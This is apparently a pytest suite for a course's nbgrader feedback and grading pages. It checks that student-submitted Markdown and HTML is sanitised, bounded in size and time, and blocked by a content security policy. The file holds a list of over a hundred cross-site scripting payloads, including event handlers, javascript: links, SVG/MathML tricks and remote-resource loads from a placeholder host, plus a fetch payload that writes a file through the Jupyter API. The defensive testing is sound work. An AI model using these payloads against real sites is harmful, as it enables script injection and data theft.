"""The pages that show a submission: hostile answers do nothing on them, nor take long, and honest ones look right."""

import json
import os
import re
import shutil
import socket
import subprocess
import sys

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI
from traitlets.config.loader import PyFileConfigLoader

import grade
import grader
import judge
import one
import pages
from conftest import REPOSITORY, free_port, report, serving

COURSE = REPOSITORY / "notebooks/assignments"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# --- Hostile text ----------------------------------------------------------------------------------------------------

MARK = "mark()"  # what a script of a student calls, where it can
MARKED = "window.marks = 0; window.mark = () => window.marks++;"
HOSTILE = f"""
<script>{MARK}</script>
<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>
<scr<script>ipt>{MARK}</scr</script>ipt>
<div><script/x>{MARK}</script >
<script src="data:text/javascript,{MARK}"></script>
<img src=x onerror={MARK}>
<div><img/src=x/onerror={MARK}>
<img src="x` `<script>{MARK}</script>"` `>
<div><img src=x:x onerror&#61;"{MARK}" onload={MARK}>
<IMG SRC="jav&#x09;ascript:{MARK}">
<img src=http://elsewhere.example/p.png>
<img src=//elsewhere.example/p.png>
<img srcset="http://elsewhere.example/p.png 1x">
<img src=x:x longdesc=javascript:{MARK} lowsrc=http://elsewhere.example/p.png dynsrc=http://elsewhere.example/p.png>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IngiLz4=">
<img src="/files/secret.png">
<picture><source srcset=http://elsewhere.example/p.png><img></picture>
<svg onload={MARK}></svg>
<svg><script>{MARK}</script></svg>
<svg><a xlink:href="javascript:{MARK}"><text>x</text></a></svg>
<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>
<svg><image href=http://elsewhere.example/p.png></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.mark()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={MARK}></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>{MARK}</script></annotation-xml></math>
<math href="javascript:{MARK}">x</math>
<math><mi xlink:href="javascript:{MARK}">x</mi></math>
<math><maction actiontype="statusline#http://elsewhere.example" xlink:href="javascript:{MARK}">x</maction></math>
<iframe src="javascript:parent.{MARK}"></iframe>
<iframe srcdoc="<script>parent.mark()</script>"></iframe>
<iframe src=http://elsewhere.example></iframe>
<object data="javascript:{MARK}"></object>
<object data="http://elsewhere.example/x.swf" type="text/html"></object>
<embed src="http://elsewhere.example/x.swf">
<applet code=x></applet>
<frameset onload={MARK}><frame src=http://elsewhere.example></frameset>
<a href="javascript:{MARK}">x</a>
<a href="JaVaScRiPt:{MARK}">x</a>
<a href=" &#14; javascript:{MARK}">x</a>
<a href="java&#10;script:{MARK}">x</a>
<a href="&#106;avascript:{MARK}">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html,<script>{MARK}</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">x</a>
<a href="blob:http://127.0.0.1/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="/lab/api/x">x</a>
<a href="//elsewhere.example">x</a>
<a href="x.html" download>x</a>
<a href="https://elsewhere.example" ping="http://elsewhere.example/ping">x</a>
<a href="https://elsewhere.example" onclick={MARK} onmouseover={MARK}>x</a>
[x](javascript:{MARK})
[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
[x](/formgrader/submissions/1/x.html)
[x](x.html "title" )
![x](http://elsewhere.example/p.png)
![x](/files/p.png)
![x](attachment:none.png)
<meta http-equiv=refresh content="0;url=http://elsewhere.example">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<base href=http://elsewhere.example/>
<link rel=stylesheet href=http://elsewhere.example/x.css>
<link rel=prefetch href=http://elsewhere.example/x>
<style>@import url(http://elsewhere.example/x.css); body {{ display: none }}</style>
<style>p {{ background: url(http://elsewhere.example/p.png) }}</style>
<p style="background:url(http://elsewhere.example/p.png)">x</p>
<div style="position:fixed;inset:0;background:white">Full marks</div>
<p style="animation-name:x" onanimationstart={MARK}>x</p>
<form action=http://elsewhere.example><input name=x><button>Save</button></form>
<form id=x></form><button form=x formaction="javascript:{MARK}">x</button>
<input autofocus onfocus={MARK}>
<input type=image src=http://elsewhere.example/p.png>
<select autofocus onfocus={MARK}><option>x</option></select>
<textarea autofocus onfocus={MARK}></textarea>
<keygen autofocus onfocus={MARK}>
<isindex type=image src=http://elsewhere.example/p.png>
<body onload={MARK} background=http://elsewhere.example/p.png>
<table background=http://elsewhere.example/p.png><tr><td background=http://elsewhere.example/p.png>x</table>
<video src=http://elsewhere.example/x onerror={MARK}></video>
<video poster=http://elsewhere.example/p.png><source onerror={MARK}></video>
<audio src=http://elsewhere.example/x autoplay onloadstart={MARK}></audio>
<details open ontoggle={MARK}>x</details>
<marquee onstart={MARK}>x</marquee>
<dialog open>Full marks</dialog>
<p id=statusmessage>x</p>
<a id=words name=words>x</a>
<p id=words-comment class="score tabbable nbgrader_cell">x</p>
<img name=getElementById><img name=cookie>
<div class="navbar navbar-fixed-top">Next</div>
<span class="k help modal fade in">x</span>
<p data-toggle=tooltip data-html=true title="<script>{MARK}</script>" data-link=x>x</p>
<p contenteditable autofocus onfocus={MARK} tabindex=1 accesskey=x>x</p>
<p popover id=x>x</p><button popovertarget=x>x</button>
<p is=x slot=x part=x itemscope itemprop=x>x</p>
<x onclick={MARK}>x</x>
<template shadowrootmode=open><script>{MARK}</script></template>
<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript>
<title><img title="</title><img src=x onerror={MARK}>"></title>
<xmp><p title="</xmp><img src=x onerror={MARK}>"></xmp>
<textarea><p title="</textarea><img src=x onerror={MARK}>"></textarea>
<!--><img src=x onerror={MARK}>-->
<!--[if IE]><script>{MARK}</script><![endif]-->
<![CDATA[><img src=x onerror={MARK}>]]>
<?xml-stylesheet href="javascript:{MARK}"?><img src=x onerror={MARK}>
<ul><li><div><section><li>x</section></div></ul>
<ul><li><div><div><div><section><li></section></div></div></div></ul>
<dl><dd><div><object><dd>x</object></div></dl>
<h1><div><marquee><h2>x</marquee></div></h1>
<math><mi><div><svg><foreignObject><math><mi></mi></math></foreignObject></svg></div></mi></math>
</div></div></div><form action=http://elsewhere.example><input name=score value=9></form>
</section></main></body><script>{MARK}</script>
<p title='"><img src=x onerror={MARK}>' onclick={MARK}>x</p>
<plaintext onclick={MARK}>x
"""
SNIPPETS = [line for line in HOSTILE.splitlines() if line]

# What of a page, as a browser takes it, a student's text should not have brought in.
HARM = r"""page => {
    const harm = [];
    const tags = new Set(("html head body math a abbr b blockquote br caption center code dd del details div dl dt " +
        "em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub " +
        "summary sup table tbody td tfoot th thead tr u ul var mi mn mo mrow mtext").split(" "));
    const attributes = new Set("alt title start align width height display".split(" "));
    const read = new DOMParser().parseFromString(`<div><div>${page}</div><hr></div><hr>`, "text/html");
    if (read.body.children.length !== 2 || read.body.firstChild.children.length !== 2) harm.push("its box is left");
    for (const element of read.querySelectorAll("*")) {
        if (!tags.has(element.localName)) harm.push(element.localName);
        for (const {name, value} of element.attributes) {
            const fine = attributes.has(name) && element.localName !== "p"
                || name === "class" && /^[a-z0-9]{1,3}$/.test(value)
                || name === "href" && element.localName === "a" && /^(https?:\/\/|mailto:)/.test(value)
                || name === "rel" && value === "noopener noreferrer" || name === "target" && value === "_blank"
                || name === "src" && /^data:image\/(png|jpeg|gif|webp);base64,/.test(value);
            if (!fine) harm.push(`${element.localName} ${name}=${value}`);
        }
        if (element.localName === "a" && element.hasAttribute("href") && element.rel !== "noopener noreferrer") {
            harm.push("a link tells where it comes from");
        }
    }
    return harm;
}"""


class Uncleaned:
    @staticmethod
    def clean(page):
        return page


def requests_of(page):
    """The addresses that a page asks for, from now on; those of other machines are refused."""
    asked = []

    def answer(route):
        asked.append(route.request.url)
        route.continue_() if re.match(r"file:|http://127\.0\.0\.1:", route.request.url) else route.abort()

    page.route("**/*", answer)
    return asked


def test_hostile_markdown_does_nothing_on_a_page(browser, monkeypatch):
    assert len(SNIPPETS) >= 100
    page = browser.new_page()
    page.add_init_script(MARKED)
    page.goto("about:blank")
    asked = requests_of(page)
    cleaned = [(text, clean(text)) for clean in (render, pages.clean) for text in SNIPPETS]
    report([f"{text}\n    {harm}" for text, made in cleaned if (harm := page.evaluate(HARM, made))])
    page.set_content("".join(f"<div>{made}</div>" for _, made in cleaned))
    assert page.evaluate("window.marks") == 0 and not asked
    # Each of them would be seen if it were not cleaned, except what never becomes a link or a picture, and a comment.
    monkeypatch.setattr(pages, "CLEANER", Uncleaned)
    harmless = [text for text in SNIPPETS if not page.evaluate(HARM, pages.Markdown().render(text))]
    assert harmless == [text for text in SNIPPETS if text.startswith(("[x](j", "[x](d", "![x]", "<!--[if"))]
    page.set_content("".join(f"<div>{text}</div>" for text in SNIPPETS if "http-equiv" not in text))
    assert page.evaluate("window.marks") > 0 and asked
    page.close()


# --- What honest students write --------------------------------------------------------------------------------------


def render(text, attachments=None):
    return pages.Markdown().render(text, attachments)


def test_honest_markdown_is_laid_out():
    for text, made in (
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("| a | b |\n|--:|---|\n| 1 | 2 |", '<td align="right">1</td>'),
        ("```rust\nlet a = 1; // <b>\n```", '<span class="kd">let</span>'),
        ("```rust\nlet a = 1; // <b>\n```", "// &lt;b&gt;"),
        ("```other\n<b>\n```", "<pre><code>&lt;b&gt;"),
        ("H<sub>2</sub>O<br>x", "<p>H<sub>2</sub>O<br>x</p>"),
        ("> - a\n>   1. b", "<blockquote>"),
        ("$a^2 < b$ costs", "<math><msup><mi>a</mi><mn>2</mn></msup><mo>&lt;</mo><mi>b</mi></math>"),
        ("$$\\frac12$$", '<math display="block"><mfrac>'),
        ("\\begin{align}a&=b\\end{align}", "<mtable"),
        ("[x](https://rust-lang.org)", 'href="https://rust-lang.org" target="_blank" rel="noopener noreferrer">x</a>'),
        (f"![x](data:image/png;base64,{PIXEL})", f'<img src="data:image/png;base64,{PIXEL}" alt="x">'),
    ):
        assert made in render(text), f"{text}\n{render(text)}"


def test_a_formula_that_is_not_understood_is_shown_as_typed():
    for latex in (
        r"\href{javascript:alert(1)}{x}",
        r"\unicode{<b>}",
        r"\newcommand{\a}[1]{#1#1#1}" + r"\a{" * 20 + "x" + "}" * 20,
        r"\frac{1",
        "a" * (pages.MOST_FORMULA + 1),
    ):
        shown = render(f"${latex}$")
        assert "<math" not in shown and f"<code>{pages.html.escape(latex, quote=False)}</code>" in shown, shown


@pytest.mark.slow
def test_a_pasted_picture_is_shown_if_it_is_one():
    for kind, data, why_not in (
        ("image/png", PIXEL, ""),
        ("image/png", PIXEL[:40] + "\n" + PIXEL[40:] + "\n", ""),
        ("image/gif", "R0lGODlhAQABAAAAACwAAAAAAQABAAA=", ""),
        ("image/svg+xml", "PHN2Zz48L3N2Zz4=", pages.NO_PICTURE),
        ("image/png", "PHN2Zz48L3N2Zz4=", pages.NO_PICTURE),
        ("image/png", PIXEL + '"onerror="x', pages.NO_PICTURE),
        ("text/html", PIXEL, pages.NO_PICTURE),
        ("image/png", [PIXEL], pages.NO_PICTURE),
        ("image/png", "iVBORw0KGgo" + "A" * pages.MOST_PICTURES, "the pictures of a page may have 3.75 MB together"),
    ):
        made = render("![my picture](attachment:a%20b.png)", {"a b.png": {kind: data}})
        assert ("<img src=" in made) != bool(why_not), made[:200]
        assert not why_not or f"(a picture that is not shown, since {why_not}: my picture)" in made
    assert "<img" not in render("![x](attachment:x)", {"x": PIXEL}) + render("![x](attachment:x)", PIXEL)
    # Shown a hundred times, one picture is a hundred.
    large = {"x": {"image/png": "iVBORw0KGgo" + "A" * (pages.MOST_PICTURES // 3)}}
    assert render("![x](attachment:x)" * 100, large).count("<img") == 2


# --- Pages -----------------------------------------------------------------------------------------------------------


def notebook(*cells):
    """A notebook after grading: these cells, then a written answer with points and a comment."""
    answer = new_markdown_cell("Since $a = 0$.")
    answer.metadata.nbgrader = {"grade_id": "words", "solution": True, "grade": True, "locked": False}
    answer.metadata.nbgrader |= {"points": 2, "score": 1.5, "comment": "**Nearly.**"}
    whole = new_notebook()
    whole.cells = [*cells, answer]  # without nbformat's check of each
    return whole


def made(*cells):
    """The feedback page of such a notebook."""
    known = {"notebook": "blank", "score": 1.5, "max_score": 2, "late_penalty": 0}
    return pages.feedback(notebook(*cells), {"nbgrader": known})


def test_what_is_too_long_is_cut_and_says_so():
    long = "*a* " * pages.MOST_TEXT
    for cell in (new_markdown_cell(long), new_code_cell(long), new_raw_cell(long)):
        page = made(cell)
        assert (
            f"This text has {4 * pages.MOST_TEXT} characters. Here are the first {pages.MOST_TEXT}, as typed." in page
        )
        assert len(page) < pages.MOST_TEXT + 20_000 and "<strong>Nearly.</strong>" in page
    cell = new_code_cell("f()")
    cell.outputs = [new_output("stream", text="x" * 9_000)] * 1000
    page = made(cell)
    assert "This is only the beginning" in page and len(page) < pages.MOST_TEXT + 20_000
    cell.outputs = [new_output("stream", text="")] * 100_000
    page = made(cell)
    assert "The outputs that come after this one are not shown" in page and len(page) < 50_000
    page = made(*[new_markdown_cell("x")] * 100_000)
    assert re.search(r"than this page shows: 9\d{4} are left out", page)
    assert len(page) < 300_000 and "<strong>Nearly.</strong>" in page


def test_what_takes_too_long_is_shown_as_typed(monkeypatch):
    monkeypatch.setattr(pages, "MOST_SECONDS", -1.0)
    assert "could not be laid out, so here it is as typed.</p><pre>*a*</pre>" in made(new_markdown_cell("*a*"))
    monkeypatch.undo()
    monkeypatch.setattr(pages.Markdown, "render", made)  # without end
    assert "could not be laid out, so here it is as typed.</p><pre>*a*</pre>" in made(new_markdown_cell("*a*"))


# Each is repeated up to the length of the longest text that is laid out. Some of code follow.
NESTS = """[ * _ ** > ` < $ & | ~ ! \\ { ( # - + = : " ' ![ [](  [a](  ](a) *a_ ***a **a*b <a <a> <b> <!-- <? <![CDATA[
    <div> <p> $$a $a$ \\[ \\( \\begin{a} \\begin{a}\\end{b} http:// a@b. &# &a; ``a [[a] [a][ [a]: ~~a |a |- 1. >* --
    <svg><math> <table><b> <ul><li> ^ _{ \\frac \\sqrt{""".split()
NESTS += ["* ", "> ", "* a\n", "> a\n", "a\n=\n", "*a ", " b*", "- [ ] a\n", "\t", " ", "\n", "  \n"]
IN_CODE = ["/*", 'r#"', "'a", "b'\\", "<", "{", "|a", "::a", "#[", '"', "0x", "r#", "a!"]
FIXED = {
    "lists in lists": "".join(" " * 2 * i + "* a\n" for i in range(140)),
    "quotes in quotes": "".join(">" * i + " a\n" for i in range(195)),
    "opened and closed": "*a " * 3300 + " b*" * 3300,
    "a wide table": "|a" * 3000 + "\n" + "|-" * 3000 + "\n" + "a\n" * 3900,
    "one long address, many links": "[a]: " + "x" * 9900 + "\n\n" + "[a]" * 3300,
    "tags that stay open": "<p>" + "".join(f"<b x={i}>" for i in range(900)) + "<p>x" * 2000,
    "a long link that stays open": f"<p><a href='http://{'x' * 9900}'>" + "<p>x" * 2400,
    "a formula too deep": "$" + "{" * 9900 + "}" * 9900 + "$",
    "a formula as deep as it may be": "$" + r"\frac" * 200 + "$\n\n$" + "{" * 500 + "}" * 500 + "$",
    "many formulas": "$a$ " * 4900,
    "many errors": r"$\x$ " * 3900,
    "half of a pair, and no characters": "\ud800 \x00 \x1b[31m \ufffe \r" * 1000,
}
CHILD = """
import json, resource, sys, threading
resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
if sys.platform == 'linux':
    resource.setrlimit(resource.RLIMIT_AS, (550_000_000, 550_000_000))
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
import pages
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
MAKERS = {"markdown": new_markdown_cell, "code": new_code_cell}
def run():
    for kind, text in json.load(sys.stdin):
        known = {"notebook": text[:50], "score": 0, "max_score": 0, "late_penalty": 0}
        page = pages.feedback(new_notebook(cells=[MAKERS[kind](text)]), {"nbgrader": known})
        print(len(page.encode("utf-8")), flush=True)
threading.stack_size(1 << 20)  # what nests is laid out on a small stack, too
thread = threading.Thread(target=run)
thread.start()
thread.join()
"""


@pytest.mark.slow
def test_the_worst_nests_take_neither_long_nor_much_nor_end_the_process():
    texts = [("markdown", nest * (pages.MOST_TEXT // len(nest))) for nest in NESTS]
    texts += [("code", nest * (pages.MOST_TEXT // len(nest))) for nest in IN_CODE]
    texts += [("markdown", text) for text in FIXED.values()]
    texts += [("markdown", nest * (100_000 // len(nest))) for nest in ("[", "*a ", "${", "\\\\(", "> ")]
    done = subprocess.run(
        [sys.executable, "-c", CHILD],
        cwd=COURSE / "grading",
        input=json.dumps(texts),
        capture_output=True,
        text=True,
        env=os.environ | {"PYTHONPATH": str(COURSE / "grading")},
    )
    sizes = list(map(int, done.stdout.split()))
    assert len(sizes) == len(texts), f"{texts[len(sizes)][1][:100]!r}: {done.returncode} {done.stderr[-2000:]}"
    assert max(sizes) < 1_100_000


def test_no_half_of_a_pair_and_no_nul_is_left():
    odd = "\ud800 \x00\x1b[31mred\x1b[0m\x08\ufffe"
    cell = new_code_cell(odd, outputs=[new_output("stream", text=odd), new_output("error", traceback=[odd, odd])])
    page = made(cell, new_markdown_cell(odd), new_raw_cell(odd))
    page.encode("utf-8")
    assert not re.search("[\ud800-\udfff\x00\x1b\x08\ufffe]", page) and page.count("red") == made().count("red") + 6


def test_outputs_are_text_or_pictures():
    rich = {"text/html": f"<script>{MARK}</script>", "image/svg+xml": "<svg onload=x>", "application/javascript": MARK}
    page = made(
        new_code_cell("a", outputs=[new_output("display_data", data=rich | {"text/plain": "<plain>"})]),
        new_code_cell("b", outputs=[new_output("display_data", data=rich)]),
        new_code_cell("c", outputs=[new_output("execute_result", data={"image/png": PIXEL + "\n", "text/plain": "P"})]),
        new_code_cell("d", outputs=[new_output("error", ename="E", evalue="<e>", traceback=[])]),
    )
    assert MARK not in page and "onload" not in page
    assert '<pre class="output">&lt;plain&gt;</pre>' in page and "An output that is no text is not shown." in page
    assert (
        f'<img src="data:image/png;base64,{PIXEL}" alt="P">' in page and '<pre class="failed">&lt;e&gt;</pre>' in page
    )


def test_hidden_are_only_the_words_of_the_assignment():
    secret = "1\n// BEGIN HIDDEN TESTS\nsecret\n// END HIDDEN TESTS"
    rubric = "Task\n\n### BEGIN MARK SCHEME\nsecret\n### END MARK SCHEME"
    check, task = new_code_cell(secret), new_markdown_cell(rubric)
    check.metadata.nbgrader = {
        "grade": True,
        "solution": False,
        "locked": True,
        "points": 1,
        "score": 1,
        "grade_id": "c",
    }
    task.metadata.nbgrader = {"grade": False, "solution": False, "locked": True, "grade_id": "t"}
    own = [new_code_cell(f"mine // {words}") for words in ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS")]
    own += [new_markdown_cell(f"mine {words}") for words in ("BEGIN MARK SCHEME", "BEGIN MARK SCHEME")]
    hidden, _ = pages.HideFromStudents().preprocess(notebook(check, task, *own), {})
    page = pages.feedback(hidden, {"nbgrader": {"notebook": "n", "score": 0, "max_score": 0, "late_penalty": 0}})
    assert "secret" not in page and page.count("mine") == 4 and page.count("BEGIN MARK SCHEME") == 2


@pytest.mark.slow
def test_a_judge_says_why_not_in_plain_words():
    """Though the assignment's set-up has failures shown as tables of HTML."""
    source = COURSE / "source/blank/blank.ipynb"
    assert any("show_failures" in cell.source for cell in nbformat.read(source, as_version=4).cells)
    program = judge.build(judge.read(nbformat.read(source, as_version=4)), "blank").program
    ours, theirs = socket.socketpair()
    with theirs:
        ours.close()  # so the student's process has ended
        done = subprocess.run([str(program), "check-choice"], stdin=theirs.fileno(), capture_output=True, text=True)
    assert done.stdout == "the program ended while `is_delta_zero` ran\n", done.stdout


# --- As an instructor has them ---------------------------------------------------------------------------------------

TOKEN = "the-token-of-a-test"
SAVE = """<img src=x onerror="fetch('/api/contents/saved.txt', {method: 'PUT', body: '{}'})">"""
WORDS = "My answer, of which $a = 0$ is a part."


def nbgrader(course, step, *arguments):
    """A step of nbgrader with the course's settings."""
    config = PyFileConfigLoader("nbgrader_config.py", str(course)).load_config()
    result = getattr(NbGraderAPI(config=config), step)(*arguments)
    assert result["success"], result


def gradebook(course):
    return Gradebook(f"sqlite:///{course / 'gradebook.db'}", "zero-init")


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course with one submission, graded, whose text is as hostile as can be, and so is its student's name."""
    course = tmp_path_factory.mktemp("root") / "course"
    (course / "submitted/eve/blank").mkdir(parents=True)
    shutil.copytree(COURSE / "source/blank", course / "source/blank")
    (course / "grading").symlink_to(COURSE / "grading")
    shutil.copy(COURSE / "nbgrader_config.py", course)
    with pytest.MonkeyPatch.context() as monkeypatch:
        nbgrader(course, "generate_assignment", "blank")
        handed_in = nbformat.read(course / "release/blank/blank.ipynb", as_version=4)
        hostile = "\n\n".join([SAVE, *SNIPPETS[:-1]])
        for cell in handed_in.cells:
            if cell.metadata.nbgrader.grade_id == "words":
                cell.source = f"{WORDS}\n\n{hostile}"
            elif cell.metadata.nbgrader.solution:
                cell.source = f"// {hostile}"
        handed_in.cells += [new_markdown_cell(hostile), new_raw_cell(hostile), new_code_cell(hostile)]
        nbformat.write(handed_in, course / "submitted/eve/blank/blank.ipynb")
        # No cell is run: what matters here is what is seen of a submission.
        monkeypatch.setattr(one, "ask", lambda function, question, seconds: getattr(one, function)(question))
        monkeypatch.setattr(one, "limit", lambda *limits: None)
        monkeypatch.setattr(grader.Grader, "grade", lambda self, cells: grader.Graded())
        assert grade.main(course, grade.parsed([])) == 0
        with gradebook(course) as book:
            name = "<img src=x onerror=mark()>"
            book.update_or_create_student("eve", first_name=name, last_name=f'"{name}')
        yield course


@pytest.fixture
def lab(course, tmp_path):
    """The address of `make teach` on the course, with settings of its own."""
    port = free_port()
    command = ["make", "-o", "setup", "teach", f"COURSE={course}", f"JUPYTER={tmp_path / 'jupyter'}"]
    command += [f"ARGS=--no-browser --port={port} --IdentityProvider.token={TOKEN}"]
    address = f"http://127.0.0.1:{port}"
    with serving(command, f"{address}/api/status?token={TOKEN}", tmp_path / "log", cwd=REPOSITORY):
        yield address


@pytest.mark.slow
def test_a_hostile_answer_is_read_and_graded_and_nothing_of_it_runs(course, lab, browser):
    """From JupyterLab's menu to the points and the comment in the gradebook and on the feedback page."""
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.add_init_script(MARKED)
    asked, complaints = requests_of(page), []
    page.on("console", lambda said: complaints.extend([said.text] if said.type in ("error", "warning") else []))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(f"{lab}/lab?token={TOKEN}&reset")
    page.locator(".lm-MenuBar-item", has_text=re.compile("^Nbgrader$")).click()
    page.locator(".lm-Menu-item", has_text=re.compile("^Formgrader")).first.click()
    frame = page.frame_locator("iframe[src*=formgrader]")
    frame.get_by_role("link", name="Manual Grading").first.click()
    frame.get_by_role("link", name="blank").click()
    frame.get_by_role("link", name="blank").last.click()
    complaints.clear()  # those of JupyterLab's own pages
    frame.get_by_role("link", name="Submission #1").click()
    answer = frame.locator(".nbgrader_cell", has_text=WORDS[:9])
    answer.wait_for()
    shown_at = next(frame.url for frame in page.frames if "/submissions/" in frame.url).split("?")[0]
    # The name is hidden until it is asked for.
    name = frame.locator("a.name-shown")
    assert name.is_hidden()
    frame.locator("span.name-hidden").click()
    assert name.inner_text() == '"<img src=x onerror=mark()>, <img src=x onerror=mark()>'
    # Formulas are set, and no script, form or picture is the student's.
    box = answer.locator(".text")
    assert box.locator("math").count() >= 1 and box.locator("script, form, img[src], iframe, svg, style").count() == 0
    saved = lambda kind: page.expect_response(lambda r: f"/api/{kind}/" in r.url and r.request.method == "PUT")  # noqa: E731
    with saved("grade"):
        answer.locator(".score").fill("1.5")
        answer.locator(".score").press("Tab")
    with saved("comment"):
        answer.locator(".comment").fill("Nearly: *why*?<script>mark()</script>")
        answer.locator(".comment").press("Tab")
    assert [frame.evaluate("window.marks") for frame in page.frames] == [0] * len(page.frames)
    frame.get_by_role("link", name="Next →").click()
    frame.get_by_role("link", name="Submission #1").wait_for()
    # JupyterLab shows the page in a frame of which browsers warn.
    assert [said for said in complaints if not said.startswith("An iframe which has both allow-scripts and")] == []
    assert [address for address in asked if not address.startswith(lab)] == []
    assert not [address for address in asked if "saved.txt" in address] and not list(course.parent.rglob("saved.txt"))
    # Neither does what the student's links could lead to: a file of theirs, or a page that shows a part of its address.
    (course / "autograded/eve/blank/x.html").write_text("<script>mark()</script>", encoding="utf-8")
    parts = (
        "gradebook/%22;mark();%22",
        "gradebook/%3Cimg%20src=x%20onerror=mark()%3E",
        "manage_students/%22;mark();%22",
    )
    for address in [shown_at + "x.html", *(f"{lab}/formgrader/{part}" for part in parts)]:
        assert page.goto(address).status == 200 and page.evaluate("window.marks") == 0, address
    page.close()
    with gradebook(course) as book:
        submission = book.find_submission_notebook("blank", "blank", "eve")
        assert {grade.name: grade.manual_score for grade in submission.grades}["words"] == 1.5
    # The same text on the page that the student gets, which is a file.
    nbgrader(course, "generate_feedback", "blank", "eve")
    page = browser.new_page()
    page.add_init_script(MARKED)
    asked, complaints = requests_of(page), []
    page.on("console", lambda message: complaints.append(message.text))
    address = (course / "feedback/eve/blank/blank.html").as_uri()
    page.goto(address)
    words = page.locator("#task-words")
    assert "1.5 of 2 points" in words.inner_text() and "Nearly: why?" in words.locator(".comment").inner_text()
    assert "<img src=x onerror" in page.locator("#task-network").inner_text()  # code is shown as it is
    assert page.locator("script, form, img[src], iframe, svg, link, base").count() == 0
    assert page.evaluate("window.marks") == 0 and asked == [address] and complaints == []
    page.close()


@pytest.mark.slow
@pytest.mark.parametrize("template", ["feedback.html", "formgrade.html"])
def test_where_cleaning_fails_the_policy_still_lets_nothing_run(template, browser, monkeypatch, tmp_path):
    monkeypatch.setattr(pages, "CLEANER", Uncleaned)
    # A page may always be left for another one: that is no matter of this policy.
    text = "\n\n".join([SAVE, *(text for text in SNIPPETS if "refresh" not in text)])
    if template == "feedback.html":
        made_page = made(new_markdown_cell(text))
    else:
        known = {"base_url": "", "submission_id": "1", "notebook_id": "n", "assignment_id": "a", "index": 0, "total": 1}
        known |= {"student": "eve", "first_name": "", "last_name": "", "notebook_path": "n.ipynb"}
        made_page, _ = pages.Formgrade().from_notebook_node(notebook(new_markdown_cell(text)), known)
    path = tmp_path / "page.html"
    page = browser.new_page()
    page.add_init_script(MARKED)
    asked = requests_of(page)
    for policy in (True, False):
        path.write_text(made_page if policy else made_page.replace("Content-Security-Policy", "x"), encoding="utf-8")
        page.goto(path.as_uri())
        assert (page.evaluate("window.marks") == 0) == policy
        assert any("elsewhere.example" in address for address in asked) != policy
    page.close()
